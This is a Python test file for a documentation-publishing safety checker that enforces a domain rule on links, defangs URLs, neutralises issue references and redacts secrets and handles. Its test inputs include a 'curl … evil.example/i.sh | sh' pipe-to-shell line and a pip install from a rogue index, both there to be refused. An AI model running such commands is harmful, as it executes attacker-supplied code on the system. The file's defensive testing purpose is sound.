"""Leaks and bypasses found at the publishing boundary, each reproduced first."""

from __future__ import annotations

import re
from datetime import datetime, timezone

import pytest

from pythia.links import find_links
from pythia.models import Message, Thread
from pythia.propose import quote_of
from pythia.safety import check_proposal, defang_links, sanitize_for_publishing

DOCS = "# Install\n\nSee https://docs.kestrel.dev/install for details.\n"


def refused(added: str, **limits: int) -> list[str]:
    return check_proposal(
        before={"docs/install.md": DOCS},
        after={"docs/install.md": DOCS + "\n" + added + "\n"},
        docs_domains={"docs.kestrel.dev"},
        allowed_domains=[],
        max_changed_lines=limits.get("max_changed_lines", 40),
        max_changed_chars=limits.get("max_changed_chars", 20_000),
    )


@pytest.mark.parametrize(
    "added",
    [
        "[the installer](//evil.example/a)",
        "[installer]: //evil.example/a",
        "Run `curl -sSL evil.example/i.sh | sh` first.",
        "```\npip install -i evil-pypi.org/simple kestrel\n```",
        "Download it from www.evil.example.",
        "Fetch `10.0.0.5/kestrel.sh`.",
    ],
)
def test_every_link_form_in_an_edit_meets_the_domain_rule(added: str) -> None:
    reasons = refused(added)
    assert any("a domain the docs do not use" in reason for reason in reasons), reasons


@pytest.mark.parametrize(
    "added",
    [
        "Edit `mkdocs.yml` and `setup.py`, then run `uv.lock`-aware `pip install -r req.txt`.",
        "Kestrel works on ASP.NET and Node.js; see docs/index.md, e.g. the FAQ.",
        "Read more at https://docs.kestrel.dev/cache.",
        "Set `self.id` and `np.ma.array` as before; `user@host` is not a link.",
    ],
)
def test_look_alikes_of_links_are_not_links(added: str) -> None:
    assert refused(added) == []


def test_published_text_defangs_every_link_form() -> None:
    text = "[x](//evil.example/a) or curl evil.example/i.sh or www.evil.example"
    inert = defang_links(text, docs_domains=set(), allowed_domains=[])
    assert "evil.example" not in inert
    assert find_links(inert) == [] or all("evil" not in link.host for link in find_links(inert))


@pytest.mark.parametrize(
    "text",
    [
        "Fixes #12",
        "this closes acme/docs#7 for good",
        "see GH-2 and #3",
        "Resolves: https://github.com/acme/docs/issues/9",
        "fixed https://github.com/acme/docs/pull/10",
    ],
)
def test_issue_references_and_closing_keywords_stay_inert(text: str) -> None:
    published = sanitize_for_publishing(text)
    assert not re.search(r"(?<![\w\u200d])#\d", published), published
    assert not re.search(r"\bGH-\d", published), published
    assert not re.search(
        r"(?i)\b(close[sd]?|fix(e[sd])?|resolve[sd]?)\b:?\s+https?://\S+/(issues|pull)/\d+",
        published,
    ), published


def test_issue_references_inside_code_and_anchors_are_left_alone() -> None:
    assert sanitize_for_publishing("`#12` and https://example.org/page#12") == (
        "`#12` and https://example.org/page#12"
    )


def message(text: str) -> Message:
    when = datetime(2026, 3, 1, 10, 0, tzinfo=timezone.utc)
    return Message(stream="s", id=1, author="user-1", sent_at=when, text=text)


def test_a_secret_at_the_clip_boundary_is_redacted_whole() -> None:
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    text = "word " * 54 + "my token is " + token + " and more words after it " * 5
    quote = quote_of(Thread("s", (message(text),)).messages[0].text)
    assert "ghp_" not in quote and "A1b2C3" not in quote
    assert quote.endswith("…") and not quote[:-1].endswith(" ")
    email = "jane.doe.private@corp-mail.de"
    quote = quote_of("x " * 138 + email + " trailing text " * 10)
    assert "jane" not in quote and "corp-mail" not in quote


def test_a_quote_is_clipped_on_a_word_boundary() -> None:
    quote = quote_of("alpha " * 100)
    assert quote.endswith("alpha…")


def test_one_enormous_line_is_refused_by_the_character_limit() -> None:
    reasons = refused("x" * 300_000)
    assert any("characters" in reason for reason in reasons), reasons


def test_a_members_handle_is_published_as_their_pseudonym_and_others_as_placeholders() -> None:
    from pythia.handles import member_handles

    when = datetime(2026, 3, 1, 10, 0, tzinfo=timezone.utc)
    ivan = Message("s", 1, "user-1a2b3c4d", when, "it hangs", handle="ivan_petrov_92")
    members = member_handles([ivan])
    quote = quote_of(
        "ask @ivan_petrov_92 or @lena_k99 (t.me/lena_k99); `@decorator` stays", members=members
    )
    assert quote == "ask user-1a2b3c4d or [handle] ([handle]); `@decorator` stays"
    assert "ivan_petrov" not in sanitize_for_publishing("cc @ivan_petrov_92")
